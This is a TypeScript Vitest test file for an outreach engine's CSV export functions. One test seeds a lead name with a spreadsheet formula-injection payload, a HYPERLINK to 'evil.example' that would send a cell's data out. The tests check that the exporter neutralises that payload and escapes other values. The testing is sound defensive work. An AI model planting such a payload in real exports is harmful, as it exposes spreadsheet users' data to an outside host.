import { type Readable, Writable } from 'node:stream'
import { pipeline } from 'node:stream/promises'
import { setImmediate as nextTurn } from 'node:timers/promises'
import { parse } from 'csv-parse/sync'
import { beforeAll, describe, expect, it } from 'vitest'
import { observedStorage } from '../../../../test-support/observed-storage'
import { createEngine, type Engine, PacelineError, templates } from '../../src/index'
import {
  createMemoryEmailChannel,
  createMemoryLinkedInChannel,
  createMemoryStorage,
  simulate,
  VirtualClock,
} from '../../src/testing'
import { identity, leadProfile } from './harness'

const START = '2026-03-02T06:00:00Z'
const DAYS = 12
const END = Date.parse(START) + DAYS * 86_400_000
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")'

async function text(stream: Readable): Promise<string> {
  let out = ''
  for await (const chunk of stream) out += typeof chunk === 'string' ? chunk : chunk.toString('utf8')
  return out
}

/** Parses CSV text with a CSV library into objects keyed by header. */
const records = (csv: string) =>
  parse(csv, { columns: true, bom: true, record_delimiter: '\r\n' }) as Record<string, string>[]

let engine: Engine
let storage: ReturnType<typeof createMemoryStorage>

beforeAll(async () => {
  storage = createMemoryStorage()
  const run = await simulate({
    start: START,
    days: DAYS,
    storage,
    identities: [identity({ id: 'ana', name: 'Ana Martín' }), identity({ id: 'bo', name: 'Bo Berg' })],
    campaigns: [
      { id: 'c', identityId: 'ana', sequence: templates.linkedinEmail.sequence },
      { id: 'd', identityId: 'bo', sequence: templates.linkedinEmail.sequence },
    ],
    leads: Array.from({ length: 24 }, (_, n) => {
      const id = `l${String(n).padStart(2, '0')}`
      const hostile =
        n === 0
          ? {
              firstName: FORMULA_NAME,
              lastName: '+1-555-0100',
              company: 'Acme, "The Best"\nInc.',
              jobTitle: '@SUM(1+1)',
            }
          : {}
      return {
        id,
        campaignId: n % 4 === 3 ? 'd' : 'c',
        profile: leadProfile(id, hostile),
        behavior:
          n % 3 === 0
            ? { acceptsAfterHours: 4, repliesAfterStep: 'thanks', replyText: 'Interested, tell me more' }
            : n % 3 === 1
              ? { acceptsAfterHours: 20 }
              : {},
      }
    }),
  })
  expect(run.complete).toBe(true)
  engine = createEngine({
    storage,
    linkedin: createMemoryLinkedInChannel(),
    email: createMemoryEmailChannel(),
    clock: new VirtualClock(END),
  })
  // A person's tag on one conversation, named like a formula.
  const [conversation] = (await engine.conversations.list({ campaignId: 'c', limit: 1 })).items
  if (conversation === undefined) throw new Error('the scenario needs a conversation')
  await engine.conversations.tag(conversation.id, [{ name: '-Call back', category: 'neutral' }])
})

describe('engine.csv.audience', () => {
  it('writes one row per lead with the lead view, the reason in words, the last activity and tags', async () => {
    const csv = await text(await engine.csv.audience('c'))
    const rows = records(csv)
    const views = (await engine.leads.list('c', { limit: 500 })).items
    expect(rows.map((row) => row['Lead ID'])).toEqual(views.map((view) => view.leadId))
    for (const [n, view] of views.entries()) {
      const row = rows[n] as Record<string, string>
      expect(row.Status).toBe(view.status)
      expect(row.Substatus).toBe(view.substatus ?? '')
      expect(row['Current step ID']).toBe(view.stepId ?? '')
      if (view.substatus !== null) expect(row.Reason?.length).toBeGreaterThan(10)
      // The last activity, derived from the action log on its own.
      const log = (await engine.actions({ campaignId: 'c', leadId: view.leadId })).filter(
        (event) => !['lead-status-changed', 'condition-evaluated', 'connection-checked'].includes(event.type),
      )
      const last = log.reduce<(typeof log)[number] | undefined>(
        (newest, event) => (newest === undefined || event.at >= newest.at ? event : newest),
        undefined,
      )
      expect(row['Last activity at']).toBe(last?.at ?? '')
      expect(row['Last activity']).toBe(last?.type ?? '')
    }
    const repliers = rows.filter((row) => row.Status === 'replied')
    expect(repliers.length).toBeGreaterThan(0)
    for (const row of repliers) expect(row.Tags).toMatch(/Interested/)
    expect(rows.some((row) => row.Tags?.split('; ').includes("'-Call back"))).toBe(true)
  })

  it('keeps text that looks like a formula as text, and quotes commas, quotes and line breaks (RFC 4180)', async () => {
    const csv = await text(await engine.csv.audience('c', { search: 'corp.example' }))
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click me"")"`)
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m)
    expect(csv).toContain('"Acme, ""The Best""\nInc."')
    // Every record ends with CRLF; the line break inside the quoted company is kept as it was.
    expect(csv.endsWith('\r\n')).toBe(true)
    const row = records(csv).find((each) => each['Lead ID'] === 'l00')
    expect(row?.['First name']).toBe(`'${FORMULA_NAME}`)
    expect(row?.['Last name']).toBe("'+1-555-0100")
    expect(row?.['Job title']).toBe("'@SUM(1+1)")
    expect(row?.Company).toBe('Acme, "The Best"\nInc.')
  })

  it('starts with a byte order mark only when asked', async () => {
    const plain = await text(await engine.csv.audience('c'))
    const marked = await text(await engine.csv.audience('c', { bom: true }))
    expect(plain.startsWith('Lead ID,')).toBe(true)
    expect(marked.startsWith('\uFEFFLead ID,')).toBe(true)
    expect(marked.slice(1)).toBe(plain)
  })

  it('filters like the lead list, and writes the header when no lead matches', async () => {
    const rows = records(await text(await engine.csv.audience('c', { status: 'replied' })))
    const replied = (await engine.leads.list('c', { status: 'replied', limit: 500 })).items
    expect(rows.map((row) => row['Lead ID'])).toEqual(replied.map((view) => view.leadId))
    const none = await text(await engine.csv.audience('c', { search: 'nobody by that name' }))
    expect(none).toBe(
      'Lead ID,First name,Last name,Email,Company,Job title,LinkedIn,Status,Substatus,State,Reason,Current step ID,Current step,Last activity at,Last activity,Tags\r\n',
    )
  })
})

describe('engine.csv.metrics and engine.csv.campaigns', () => {
  it('writes every funnel number of the overview with its rate', async () => {
    const analytics = await engine.analytics.campaign('c')
    const rows = records(await text(await engine.csv.metrics('c')))
    const funnel = (channel: string, metric: string) =>
      rows.find((row) => row.Section === 'funnel' && row.Channel === channel && row.Metric === metric)
    expect(Number(funnel('all', 'leads')?.Value)).toBe(analytics.all.total)
    expect(Number(funnel('all', 'replied')?.Value)).toBe(analytics.all.replied)
    expect(Number(funnel('linkedin', 'invited')?.Value)).toBe(analytics.linkedin.invited)
    const accepted = funnel('linkedin', 'accepted')
    expect(Number(accepted?.Value)).toBe(analytics.linkedin.accepted)
    expect(accepted?.['Rate of']).toBe('invited')
    expect(Number(accepted?.Rate)).toBeCloseTo(analytics.linkedin.accepted / analytics.linkedin.invited, 4)
    expect(Number(funnel('email', 'sent')?.Value)).toBe(analytics.email.sent)
    expect(analytics.email.sent).toBeGreaterThan(0)
    expect(Number(funnel('email', 'bounced')?.Rate)).toBeCloseTo(
      analytics.email.bounced / analytics.email.sent,
      4,
    )
    for (const step of analytics.progress) {
      const reached = rows.find(
        (row) => row.Section === 'progress' && row['Step ID'] === step.stepId && row.Metric === 'reached',
      )
      expect(Number(reached?.Value)).toBe(step.reached)
      expect(reached?.Description).toBe(step.description)
    }
    const audience = rows.filter((row) => row.Section === 'audience' && !row.Metric?.includes(':'))
    expect(audience.reduce((total, row) => total + Number(row.Value), 0)).toBe(analytics.audience.total)
    const tag = rows.find((row) => row.Section === 'tags' && row.Category === 'positive')
    expect(tag?.Metric).toBe('interested')
  })

  it('writes the campaigns table: a row per campaign, filtered, with the period asked for', async () => {
    const rows = records(await text(await engine.csv.campaigns({ order: 'name', since: '2026-03-02' })))
    expect(rows.map((row) => row['Campaign ID']).sort()).toEqual(['c', 'd'])
    for (const row of rows) {
      const analytics = await engine.analytics.campaign(row['Campaign ID'] as string, {
        since: '2026-03-02',
      })
      expect(Number(row.all_leads)).toBe(analytics.all.total)
      expect(Number(row.linkedin_accepted)).toBe(analytics.linkedin.accepted)
      expect(Number(row.leads_replied)).toBe(analytics.audience.statuses.replied)
      expect(row['Period from']).toBe(analytics.period.from)
    }
    const bo = records(await text(await engine.csv.campaigns({ identityId: 'bo' })))
    expect(bo.map((row) => row['Campaign ID'])).toEqual(['d'])
  })
})

describe('engine.csv.activity', () => {
  it('writes the activity log a row per entry, with the lead beside its id', async () => {
    const filter = { campaignId: 'c', types: ['invitation-sent', 'reply-received'] } as const
    const rows = records(await text(await engine.csv.activity({ ...filter, order: 'oldest' })))
    const events = await engine.actions(filter)
    expect(rows).toHaveLength(events.length)
    expect(rows.map((row) => row.At)).toEqual(events.map((event) => event.at).sort())
    const first = rows.find((row) => row['Lead ID'] === 'l00')
    expect(first?.['Lead name']).toBe(`'${FORMULA_NAME} +1-555-0100`)
    expect(first?.['Lead email']).toBe('l00@corp.example')
  })
})

describe('engine.csv.identity and engine.csv.identities', () => {
  it('writes a row per day of the period that add up to the total row, which is the dashboard', async () => {
    const period = { since: '2026-03-02', until: '2026-03-08' }
    const rows = records(await text(await engine.csv.identity('ana', period)))
    expect(rows.map((row) => row.Date)).toEqual([
      '2026-03-02',
      '2026-03-03',
      '2026-03-04',
      '2026-03-05',
      '2026-03-06',
      '2026-03-07',
      '2026-03-08',
      'total',
    ])
    const days = rows.slice(0, -1)
    const total = rows.at(-1) as Record<string, string>
    const dashboard = await engine.analytics.identity('ana', period)
    const sumOf = (column: string) => days.reduce((sum, row) => sum + Number(row[column]), 0)
    for (const [column, value] of [
      ['Connection requests sent', dashboard.connections.sent],
      ['Connection requests accepted', dashboard.connections.accepted],
      ['Connection requests allowed', dashboard.connections.allowed],
      ['LinkedIn messages sent', dashboard.linkedinMessages.sent],
      ['LinkedIn messages allowed', dashboard.linkedinMessages.allowed],
      ['Emails sent', dashboard.emails.sent],
      ['Emails allowed', dashboard.emails.allowed],
      ['Replies', dashboard.replied],
    ] as const) {
      expect(Number(total[column]), column).toBe(value)
      expect(sumOf(column), column).toBe(value)
    }
    expect(dashboard.connections.sent).toBeGreaterThan(0)
    // The weekend allows nothing: the identity works Monday to Friday.
    expect(rows.find((row) => row.Date === '2026-03-07')?.['Connection requests allowed']).toBe('0')
  })

  it('writes a row per identity, searched by name', async () => {
    const all = records(await text(await engine.csv.identities({ since: '2026-03-02' })))
    expect(all.map((row) => row.Name)).toEqual(['Ana Martín', 'Bo Berg'])
    const ana = records(await text(await engine.csv.identities({ search: 'martin' })))
    expect(ana.map((row) => row['Identity ID'])).toEqual(['ana'])
  })
})

describe('bad input', () => {
  const refused = async (call: () => Promise<unknown>) => {
    const error = await call().then(
      () => undefined,
      (thrown: unknown) => thrown,
    )
    expect(error).toBeInstanceOf(PacelineError)
    return error as PacelineError
  }

  it('names the unknown option and suggests the right one', async () => {
    const error = await refused(() => engine.csv.audience('c', { bomb: true } as never))
    expect(error.code).toBe('invalid_query')
    expect(error.message).toMatch(/bomb/)
    expect(error.message).toMatch(/bom/)
  })

  it('refuses an inverted period, an unknown time zone, and an unknown campaign or identity', async () => {
    expect(
      (await refused(() => engine.csv.activity({ from: '2026-03-05T00:00:00Z', to: '2026-03-01T00:00:00Z' })))
        .message,
    ).toMatch(/to/)
    expect(
      (await refused(() => engine.csv.metrics('c', { since: '2026-03-02', timeZone: 'Mars/Olympus' })))
        .message,
    ).toMatch(/time zone/)
    expect((await refused(() => engine.csv.audience('nope'))).code).toBe('not_found')
    expect((await refused(() => engine.csv.identity('nobody'))).code).toBe('not_found')
    expect(
      (
        await refused(() =>
          engine.csv.campaigns({ createdFrom: '2026-03-05T00:00:00Z', createdTo: '2026-03-01T00:00:00Z' }),
        )
      ).message,
    ).toMatch(/createdTo/)
  })

  it('ends the stream with the error when storage fails halfway, rather than a short file', async () => {
    let reads = 0
    let armed = false
    const failing = observedStorage(storage, {
      // The export's first read (a page of the log) works; the next (the leads of that page) fails.
      onTransaction: () => {
        if (armed && ++reads > 1) throw new Error('disk unplugged')
      },
    })
    const broken = createEngine({ storage: failing, clock: new VirtualClock(END) })
    await broken.identities.list()
    armed = true
    const csv = await broken.csv.activity({ campaignId: 'c' })
    const sink = new Writable({ write: (_chunk, _encoding, done) => done() })
    await expect(pipeline(csv, sink)).rejects.toThrow(/disk unplugged|storage/)
  })
})

describe('a 100,000-lead audience export', () => {
  it('streams every row while holding only a few pages: rows are read as the reader takes them', async () => {
    const LEADS = 100_000
    const big = createMemoryStorage()
    const enrolmentsRead = new Set<string>()
    const counting = observedStorage(big, {
      onQuery: (collection, found) => {
        if (collection === 'enrolments')
          for (const document of found) enrolmentsRead.add(document.key as string)
      },
    })
    const bigEngine = createEngine({ storage: counting, clock: new VirtualClock(Date.parse(START)) })
    await bigEngine.identities.put(identity({ id: 'ana' }))
    await bigEngine.campaigns.create({
      id: 'big',
      identityId: 'ana',
      name: 'Big',
      sequence: templates.linkedinEmail.sequence,
    })
    for (let batch = 0; batch < LEADS / 5_000; batch++)
      await bigEngine.leads.add(
        'big',
        Array.from({ length: 5_000 }, (_, n) => {
          const id = `b${batch * 5_000 + n}`
          return { id, profile: leadProfile(id, n === 7 ? { firstName: FORMULA_NAME } : {}) }
        }),
      )
    enrolmentsRead.clear()
    const csv = await bigEngine.csv.audience('big', { order: 'oldest' })
    // A slow reader: one chunk per turn of the event loop. The leads read from storage never run far ahead
    // of the rows the reader has taken (the stream's buffer and a page or two), however long the export.
    let rowsTaken = -1 // the header
    let maxAhead = 0
    let last = ''
    let first = ''
    for await (const chunk of csv as AsyncIterable<Buffer | string>) {
      const piece = typeof chunk === 'string' ? chunk : chunk.toString('utf8')
      if (first === '') first = piece.slice(0, 200)
      rowsTaken += piece.split('\r\n').length - 1
      maxAhead = Math.max(maxAhead, enrolmentsRead.size - rowsTaken)
      last = piece
      await nextTurn()
    }
    expect(rowsTaken).toBe(LEADS)
    expect(first.startsWith('Lead ID,')).toBe(true)
    expect(last.trimEnd().split('\r\n').at(-1)).toMatch(/^b99999,/)
    // Pages are 500 leads; a few pages ahead at most, never the whole audience.
    expect(maxAhead).toBeLessThan(3_000)
    expect(maxAhead).toBeGreaterThan(0)
  }, 120_000)
})
